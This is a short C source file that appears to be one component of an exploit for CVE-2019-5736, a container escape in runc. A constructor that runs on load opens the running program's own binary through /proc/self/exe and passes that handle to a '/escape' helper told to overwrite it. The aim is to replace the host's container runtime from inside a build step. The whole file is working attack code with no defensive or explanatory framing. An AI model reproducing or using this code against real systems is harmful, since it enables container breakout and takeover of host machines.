/* Loaded into whatever program a RUN starts, also into the builder's own when the command is a link to that (CVE-2019-5736): keeps the
 * program's file at hand, and hands it to a program that tries to write to it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void take(void) {
    char number[16];
    int fd = open("/proc/self/exe", O_PATH);
    snprintf(number, sizeof number, "%d", fd);
    execl("/escape", "/escape", "overwrite", number, (char *)0);
}
